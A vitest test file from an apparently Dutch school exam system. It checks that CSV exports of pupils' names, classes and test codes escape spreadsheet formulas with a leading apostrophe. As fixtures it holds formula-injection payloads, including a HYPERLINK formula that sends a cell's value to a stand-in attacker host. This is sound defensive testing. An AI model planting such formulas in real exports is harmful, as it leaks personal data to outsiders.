/**
 * Security review (attacker helper), exports: a cell that a spreadsheet program would run as a formula (it starts with
 * =, +, - or @) must not reach a CSV of pupils' data as a formula. A pupil's name comes from a Magister/Somtoday import
 * or from a form, so anyone who can put text there could otherwise make the decaan's Excel fetch a link or run a formula
 * when opening the export. Each cell gets a leading apostrophe instead, as in the other CSV exports (inventaris,
 * menukaart, inschrijvingen, keuzedeelresultaten). The same for the toetscode in the SE-cijfers CSV: the PTA toets is
 * part of the joint leerroute, so the partner instelling's ontwikkelaar can type it, and the vmbo school downloads it.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { databaseAvailable, SKIP_NO_DB, TEST_DB } from '../support/db.js';
import { startExamenWorld, type ExamenWorld } from '../support/examen-world.js';
import { assessAll, createAssessableExam, vaststellen } from '../support/beoordeling-factory.js';
import { createCohort, pupil } from '../support/leerlingen-factory.js';
import { csvRows } from '../support/csv.js';

describe.skipIf(!databaseAvailable)(`exports of pupils' data carry no formulas (${TEST_DB})`, () => {
  if (!databaseAvailable) console.warn(`[tests] ${SKIP_NO_DB}`);
  let w: ExamenWorld;

  beforeAll(async () => {
    w = await startExamenWorld();
  });
  afterAll(async () => {
    await w?.t.close();
  });

  it('the pupil list of a cohort (leerlingen.csv): a name or klas starting with = + - @ gets a leading apostrophe', async () => {
    const c = await createCohort(w, { naam: 'Formules' });
    const gevaarlijk = {
      roepnaam: '=HYPERLINK("https://aanvaller.example/?d="&B3;"Klik")',
      tussenvoegsel: '@SUM(1)',
      achternaam: '+31 6 12345678',
      klas: '-2+3',
    };
    await w.call('vmbo-beheerder', 'POST', `/api/cohorten/${c.id}/leerlingen`, pupil(1, gevaarlijk), 201);
    await w.call('vmbo-beheerder', 'POST', `/api/cohorten/${c.id}/leerlingen`, pupil(2, { roepnaam: 'Anna', achternaam: 'de Vries' }), 201);

    const res = await w.app.inject({ method: 'GET', url: `/api/cohorten/${c.id}/leerlingen.csv`, headers: w.as('vmbo-decaan') });
    expect(res.statusCode).toBe(200);
    const [kop, ...regels] = csvRows(res.body);
    expect(kop).toEqual(['Leerlingnummer', 'Roepnaam', 'Tussenvoegsel', 'Achternaam', 'Klas', 'Leerweg', 'Geboortedatum', 'ECK iD']);
    const rij = regels.find((r) => r[0] === '100001')!;
    expect(rij.slice(1, 5)).toEqual([`'${gevaarlijk.roepnaam}`, `'${gevaarlijk.tussenvoegsel}`, `'${gevaarlijk.achternaam}`, `'${gevaarlijk.klas}`]);
    // No cell of the file starts with a formula character; ordinary names are as they were.
    for (const r of regels) for (const cel of r) expect(cel).not.toMatch(/^[=+\-@\t\r]/);
    expect(regels.find((r) => r[0] === '100002')!.slice(1, 4)).toEqual(['Anna', '', 'de Vries']);
  });

  it('the SE-cijfers CSV: a toetscode starting with = + - @ gets a leading apostrophe; an ordinary one stays as it is', async () => {
    const gewoon = await createAssessableExam(w, { pupils: 1, prefix: 'GEWOON' });
    const exam = await createAssessableExam(w, { pupils: 2, prefix: 'FORMULE' });
    const formule = '=HYPERLINK("https://aanvaller.example")';
    // The PTA toets of the joint route: written through the route's editors, of both organisations.
    await w.t.database.db.updateTable('leerroute_toets').set({ toetscode: formule }).where('id', '=', exam.toetsId).execute();
    for (const e of [gewoon, exam]) {
      await assessAll(w, e.examenId);
      await vaststellen(w, e.examenId);
    }

    const csvVan = async (examenId: string) => {
      const res = await w.app.inject({ method: 'GET', url: `/api/examens/${examenId}/resultaten/se-cijfers.csv`, headers: w.as('vmbo-examencommissie') });
      expect(res.statusCode, res.body).toBe(200);
      const [kop, ...regels] = csvRows(res.body);
      expect(kop).toEqual(['leerlingnummer', 'toetscode', 'cijfer', 'datum']);
      return regels;
    };
    const regels = await csvVan(exam.examenId);
    expect(regels).toHaveLength(2);
    for (const r of regels) expect(r[1]).toBe(`'${formule}`);
    for (const r of await csvVan(gewoon.examenId)) expect(r[1]).toBe(gewoon.toetscode);
  });
});
